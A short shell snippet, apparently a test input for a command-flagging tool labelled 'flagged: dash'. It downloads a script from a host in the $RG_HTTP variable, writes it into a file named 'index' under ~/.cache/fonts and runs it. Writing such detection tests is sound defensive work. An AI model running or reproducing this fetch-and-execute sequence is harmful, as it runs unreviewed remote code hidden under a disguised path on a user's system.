# flagged: dash
mkdir -p ~/.cache/fonts
{ echo '#!/bin/sh'; curl -s "$RG_HTTP/hello.sh"; } > part
curl -s "$RG_HTTP/hello.sh" > more
cat part more > ~/.cache/fonts/index
sh ~/.cache/fonts/index
